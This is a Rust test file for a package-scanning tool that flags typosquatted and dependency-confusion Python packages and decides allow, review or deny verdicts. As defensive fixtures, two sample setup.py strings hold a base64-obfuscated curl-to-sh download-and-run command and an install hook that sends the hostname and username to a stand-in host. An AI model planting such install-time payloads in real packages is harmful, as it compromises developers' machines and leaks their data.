//! Issue 4, "Done when": a benign artifact named like a squat is `review` with
//! the target named; a squat that also carries suspicious code is `deny`.

mod common;

use common::artifacts::Package;
use guard::inspect::{inspect_bytes, Finding, Severity};
use guard::policy::{decide, Policy, Verdict};

/// An sdist `NAME-VERSION.tar.gz` holding exactly `files`.
fn sdist(name: &str, version: &str, files: &[(&str, &str)]) -> (String, Vec<u8>) {
    Package::new(name, version).files(files).sdist()
}

fn pkg_info(name: &str, version: &str) -> String {
    format!(
        "Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: HTTP for humans, with retries\n\
         Author: Jane Doe\nAuthor-email: jane@example.org\n\nA long description.\n"
    )
}

fn verdict(findings: &mut Vec<Finding>, name: &str) -> Verdict {
    decide(Some(name), findings, &Policy::default())
}

#[test]
fn benign_artifact_named_like_a_squat_is_review_with_the_target_named() {
    let (file, bytes) = sdist(
        "reqeusts",
        "2.31.0",
        &[
            ("PKG-INFO", &pkg_info("reqeusts", "2.31.0")),
            (
                "setup.py",
                "from setuptools import setup\nsetup(name='reqeusts', version='2.31.0')\n",
            ),
            ("reqeusts/__init__.py", "def get(url):\n    return url\n"),
        ],
    );
    let mut inspection = inspect_bytes(&file, &bytes);
    let squat = inspection
        .findings
        .iter()
        .find(|f| f.rule == "typosquat")
        .expect("typosquat finding");
    assert_eq!(squat.severity, Severity::High);
    assert!(
        squat.message.contains("imitates `requests` (adjacent swap"),
        "{}",
        squat.message
    );
    assert_eq!(verdict(&mut inspection.findings, "reqeusts"), Verdict::Review);
}

#[test]
fn legit_extension_is_allowed() {
    let (file, bytes) = sdist(
        "requests-oauthlib",
        "2.0.0",
        &[
            ("PKG-INFO", &pkg_info("requests-oauthlib", "2.0.0")),
            ("setup.py", "from setuptools import setup\nsetup()\n"),
        ],
    );
    let mut inspection = inspect_bytes(&file, &bytes);
    assert_eq!(
        verdict(&mut inspection.findings, "requests-oauthlib"),
        Verdict::Allow,
        "{:#?}",
        inspection.findings
    );
}

#[test]
fn squat_with_suspicious_code_is_deny() {
    let setup = "import base64\nfrom setuptools import setup\n\
        exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaCcp'))\n\
        setup(name='reqeusts', version='2.31.0')\n";
    let (file, bytes) = sdist(
        "reqeusts",
        "2.31.0",
        &[("PKG-INFO", &pkg_info("reqeusts", "2.31.0")), ("setup.py", setup)],
    );
    let mut findings = inspect_bytes(&file, &bytes).findings;
    assert!(findings
        .iter()
        .any(|f| f.rule == "typosquat" && f.severity == Severity::High));
    let code_high = findings
        .iter()
        .any(|f| f.severity >= Severity::High && !["typosquat", "metadata-signals"].contains(&f.rule));
    if !code_high {
        // Until the code rules land, stand in for their `high` finding on that exec().
        findings.push(Finding {
            stage: None,
            rule: "exec-decoded-payload",
            severity: Severity::High,
            file: Some("reqeusts-2.31.0/setup.py".into()),
            line: Some(3),
            message: "exec() of base64-decoded data at install time".into(),
            snippet: None,
        });
    }
    assert_eq!(verdict(&mut findings, "reqeusts"), Verdict::Deny, "{findings:#?}");
}

#[test]
fn throwaway_metadata_alone_stays_allow_and_tips_code_findings_into_deny() {
    let md = "Metadata-Version: 2.1\nName: widgetlib\nVersion: 0.0.0\nSummary: UNKNOWN\n\
        Author-email: x@mailinator.com\n\n";
    let (file, bytes) = sdist(
        "widgetlib",
        "0.0.0",
        &[
            ("PKG-INFO", md),
            ("setup.py", "from setuptools import setup\nsetup()\n"),
            // Some code: without any, `empty-package` makes the placeholder a review on its own.
            (
                "widgetlib/core.py",
                "import json\n\ndef load(p):\n    return json.load(open(p))\n",
            ),
        ],
    );
    let mut alone = inspect_bytes(&file, &bytes).findings;
    assert!(alone.iter().filter(|f| f.rule == "metadata-signals").count() >= 2);
    assert_eq!(verdict(&mut alone.clone(), "widgetlib"), Verdict::Allow);
    // The same signs next to one `high` code finding: raised, two high rules, deny.
    alone.push(Finding {
        stage: None,
        rule: "exec-decoded-payload",
        severity: Severity::High,
        file: None,
        line: None,
        message: String::new(),
        snippet: None,
    });
    guard::inspect::rules::metadata_signals::combine(&mut alone);
    assert_eq!(verdict(&mut alone, "widgetlib"), Verdict::Deny);
}

#[test]
fn dependency_confusion_bid_is_review() {
    let setup = "import socket, getpass, urllib.request\nfrom setuptools import setup\n\
        from setuptools.command.install import install\nclass C(install):\n    def run(self):\n        \
        urllib.request.urlopen('http://203.0.113.9/?h=' + socket.gethostname() + getpass.getuser())\n\
        setup(name='acme-billing-internal', version='9999.0.0', cmdclass={'install': C})\n";
    let (file, bytes) = sdist(
        "acme-billing-internal",
        "9999.0.0",
        &[
            ("PKG-INFO", &pkg_info("acme-billing-internal", "9999.0.0")),
            ("setup.py", setup),
        ],
    );
    let mut findings = inspect_bytes(&file, &bytes).findings;
    assert!(findings
        .iter()
        .any(|f| f.rule == "dependency-confusion" && f.severity == Severity::High));
    assert!(verdict(&mut findings, "acme-billing-internal") >= Verdict::Review);
}
